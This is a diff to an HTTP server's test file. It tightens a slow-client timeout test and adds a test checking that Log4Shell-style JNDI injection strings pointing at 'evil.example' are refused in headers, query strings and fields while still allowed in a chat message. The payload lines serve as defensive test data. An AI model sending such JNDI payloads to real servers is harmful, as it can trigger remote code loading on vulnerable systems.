@@ -224,7 +224,7 @@ async def test_what_is_too_large_is_refused_before_it_is_kept() -> None:
 
 async def test_slow_clients_are_closed_and_the_others_do_not_wait() -> None:
     """AP-HTP-07, F-13."""
-    async with front_door(body_timeout=1.0, limits=ProtocolLimits(header_timeout=1.0)) as rig:
+    async with front_door(body_timeout=1.0, limits=ProtocolLimits(header_timeout=1.0, drain_timeout=0.2)) as rig:
         slow = [asyncio.create_task(rig.send(b"GET / HT", until_close=8)) for _ in range(100)]
         slow += [asyncio.create_task(rig.send(FIRST + b"Content-Length: 9\r\n\r\n{", until_close=8)) for _ in range(50)]
         await asyncio.sleep(0.2)
@@ -236,6 +236,23 @@ async def test_slow_clients_are_closed_and_the_others_do_not_wait() -> None:
     assert {answer[9:12] for answer in answers[:100]} == {b"408"}
     assert {answer[9:12] for answer in answers[100:]} == {b"408"}
     assert rig.handlers.runs == 20
+
+
+async def test_known_attacks_are_stopped_everywhere_but_in_the_prompt() -> None:
+    """AP-HTP-08: a user may ask about an attack, and no other field may be one."""
+    attack = "${${lower:j}ndi:ldap://evil.example/a}"
+    async with front_door() as rig:
+        assert (await rig.json("/api/chat", {"message": attack}, ALICE)).status == 200
+        replies = [
+            await rig.json("/api/chat", {"message": "a", "name": attack}, ALICE),
+            await rig.request("GET", "/api/me?q=%24%7Bjndi:ldap://evil.example%7D", ALICE),
+            await rig.request("GET", "/api/me", ALICE, f"User-Agent: {attack}"),
+            await rig.request("GET", "/api/me", f"Cookie: s={attack}"),
+            await rig.request("GET", "/api/me", f"Authorization: {attack}"),
+            await rig.request("GET", "/wp-admin/setup", ALICE),
+        ]
+        assert {(reply.status, reply.code) for reply in replies} == {(403, "known_bad_input")}
+        assert rig.handlers.runs == 1
 
 
 TRICKS = [
